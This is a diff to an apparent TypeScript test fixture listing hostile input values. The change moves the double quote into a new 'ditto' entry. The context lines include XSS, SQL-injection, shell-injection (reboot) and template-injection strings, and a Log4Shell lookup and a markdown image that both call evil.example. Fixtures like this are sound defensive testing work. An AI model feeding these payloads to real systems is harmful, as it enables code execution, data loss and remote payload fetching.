@@ -58,7 +58,7 @@ export const hostileValues: readonly HostileValue[] = [
     ...['</script x', '</title x', '</style x', '</textarea x', '<svg onload=alert(1) x', '<iframe src=javascript:x'],
     ...['<script', '<img src=x onerror=alert(1)', '<', '>', '<>', '</', '< script>', '10分<20分', 'a < b > c', '<3'],
     ...['<?php', '<?xml version="1.0"?>', '<!DOCTYPE html', '<![CDATA[x]]', ']]>', '&', '&copy', '&unknown;', '&#;'],
-    ...['&#x;', '％3Cb', '"', "'", '`', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"; alert(1); "'],
+    ...['&#x;', '％3Cb', "'", '`', '" onmouseover="alert(1)', "' onmouseover='alert(1)", '"; alert(1); "'],
     ...["'; alert(1); '", '\\"', '${alert(1)}', '{alert(1)}', '{{7*7}}', '{{constructor.constructor("alert(1)")()}}'],
     ...['<%= 7*7 %>', '#{7*7}', '//', '/*', '*/', "' OR 1=1 --", '; DROP TABLE plans', '$(reboot)', '`reboot`'],
     ...['|reboot', '&& reboot', '${jndi:ldap://evil.example/a}', '%s%s%s%n', '%00', '%3Cscript%3E'],
@@ -66,6 +66,7 @@ export const hostileValues: readonly HostileValue[] = [
     ...['[リンク](javascript:alert(1))', '![絵](https://evil.example/a.png)', '# 見出し', '1. 項目', '| 表 | 表 |'],
     ...['```', '~~~', '***', '___', '<Indicator', '[^1]', '[x]: javascript:x'],
   ),
+  ...describeAll('sign for the text above', 'ditto', '"', '〃'),
   ...describeAll(
     'web address',
     'text',
